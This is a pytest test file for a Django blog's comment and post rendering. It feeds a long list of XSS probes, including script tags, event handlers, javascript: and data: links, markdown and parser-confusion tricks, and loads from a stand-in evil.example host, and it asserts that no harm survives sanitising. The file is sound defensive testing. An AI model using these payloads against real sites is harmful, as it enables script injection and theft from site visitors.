"""Whatever people write, what stands on the page does nothing but stand there."""

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from blog.rendering import render_comment
from tests.blog.oracle import RENDERINGS, harm_in

PROBES = [
    # tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>/*</p><p>*/alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import'//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><script>alert(1)</script></template>",
    "<slot name=x></slot><x-element onclick=alert(1)>",
    "<dialog open>Pay here</dialog>",
    "<marquee onstart=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)></video>",
    "<audio autoplay src=//evil.example/x.ogg></audio>",
    "<source srcset=//evil.example/x>",
    "<picture><source srcset=//evil.example/x><img src=x></picture>",
    # attributes
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror = 'alert(1)'>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=`x`onerror=alert(1)>",
    "<img srcset='//evil.example/x 1w' src=/media/x.webp>",
    "<img src='/media/../accounts/logout/'>",
    "<p onmouseover=alert(1)>x</p>",
    "<b\x0conclick=alert(1)>x</b>",
    "<a href=x onclick\x00=alert(1)>x</a>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p style=background:url(//evil.example)>x</p>",
    "<p id=comments class=notice name=body data-x=1 aria-label=x role=alert hidden>x</p>",
    "<a name=respond id=commentform>x</a>",
    "<ol id=fn1 class=commentlist><li id=comment-1>x</li></ol>",
    "<div hx-get=/accounts/logout/ hx-trigger=load>x</div>",
    "<p dir=rtl lang=xx tabindex=-1 contenteditable>x</p>",
    "<a href=https://a.example target=_blank ping=//evil.example download>x</a>",
    # addresses
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=blob:https://a.example/1>x</a>",
    "<a href='view-source:javascript:1'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](\x01javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "javascript:alert(1)",
    '[x](https://a.example "" onmouseover=alert(1)")',
    "[x](https://a.example '\" onmouseover=\"alert(1)')",
    '[x" onclick="alert(1)](https://a.example)',
    '![x" onerror="alert(1)](/media/pictures/a-480.webp)',
    '![x](/media/pictures/a-480.webp "\\" onerror=\\"alert(1)")',
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/<script>alert(1)</script>",
    '<https://a.example/" onclick="alert(1)>',
    # parsers that disagree
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml <img src=x onerror=alert(1)> ?>",
    "<!doctype html><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<title><img src=x onerror=alert(1)></title>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><a href=javascript:alert(1)>x</table>",
    "<b><p></b><img src=x onerror=alert(1)></p>",
    '<a href="https://a.example/<script>"title=<script>>x</a>',
    "<q cite=javascript:alert(1)>x</q>",
    "<blockquote cite=javascript:alert(1) class='pull evil'>x</blockquote>",
    "<figure class=wp-block-pullquote onclick=alert(1)><blockquote onclick=alert(1)>x</blockquote></figure>",
    '<iframe src="https://a.example/" onload="alert(1)"></iframe>',
    "<!--more--><script>alert(1)</script><!-- wp:html -->",
    "<!-- wp:x <!--more--> --><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```<script>\n<script>alert(1)</script>\n```",
    '```" onclick="alert(1)\nx\n```',
    '~~~ x="y" onmouseover=alert(1)\nx\n~~~',
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    '## " onclick="alert(1)',
    "| <script>alert(1)</script> |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
    '::: pull" onclick="alert(1)\n<script>alert(1)</script>\n:::',
    "- [x] <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<scrİpt>alert(1)</scrİpt>",
    "<ſcript>alert(1)</ſcript>",
    "<img src=x onerror=alert(1)".ljust(200),
    "{{ 7|add:7 }} {% debug %} ${7*7} %s {0.__class__}",
]


@pytest.mark.django_db
@pytest.mark.parametrize("rendering", RENDERINGS)
@pytest.mark.parametrize("probe", PROBES)
def test_nothing_harmful_comes_through(probe, rendering):
    for source in (probe, f"> {probe}", f"- {probe}\n\n{probe}", f"*{probe}*", f"[a]({probe})"):
        assert harm_in(RENDERINGS[rendering](source)) == []


def test_the_oracle_sees_what_comes_through_without_our_walls():
    from markdown_it import MarkdownIt

    let_through = [probe for probe in PROBES if harm_in(MarkdownIt("commonmark").render(probe))]
    assert len(let_through) > 60


@pytest.mark.django_db
@pytest.mark.parametrize("rendering", RENDERINGS)
@settings(max_examples=60, deadline=None)
@given(data=st.data())
def test_no_mixture_of_probes_comes_through(rendering, data):
    pieces = data.draw(
        st.lists(st.sampled_from([*PROBES, "\n", "\n\n", "`", "**", "[", "](", ")", '"', "a"]), max_size=8)
    )
    source = "".join(pieces)
    if len(source) > 3:
        cut = data.draw(st.integers(1, len(source)))
        source = source[:cut]
    assert harm_in(RENDERINGS[rendering](source)) == []


NOWHERE = ["evil", "../x", "?x=1", "ftp://a.example"]


@pytest.mark.django_db
@pytest.mark.parametrize("rendering", RENDERINGS)
@pytest.mark.parametrize("address", NOWHERE)
def test_links_lead_to_a_full_address_or_into_the_blog(address, rendering):
    source = f'<a href="{address}">x</a>' if "html" in rendering else f"[x](<{address}>)"
    assert "href" not in RENDERINGS[rendering](source)


@pytest.mark.parametrize("address", ["/\\evil.example", "/\t\\evil.example", "\\\\evil.example"])
def test_a_backslash_is_no_way_out(address):
    assert "href" not in render_comment(f'<a href="{address}">x</a>', "html")
    assert "\\" not in render_comment(f"[x](<{address}>)")


@pytest.mark.parametrize("rendering", ["post of html", "comment of html"])
def test_links_without_a_scheme_get_the_safe_one(rendering):
    assert 'href="https://a.example/"' in RENDERINGS[rendering]('<a href="//a.example/">x</a>')


@pytest.mark.parametrize("rendering", ["comment", "comment of html"])
def test_a_comment_may_link_to_another_one(rendering):
    source = "[x](#comment-12)" if rendering == "comment" else '<a href="#comment-12">x</a>'
    assert 'href="#comment-12"' in RENDERINGS[rendering](source)


def test_random_bytes_are_text():
    chance = random.Random(17)
    for _ in range(50):
        source = "".join(
            chr(chance.choice([*range(1, 0x300), 0x202E, 0x2028, 0xFFFE, 0x1F600])) for _ in range(300)
        )
        for render in RENDERINGS.values():
            assert harm_in(render(source)) == []
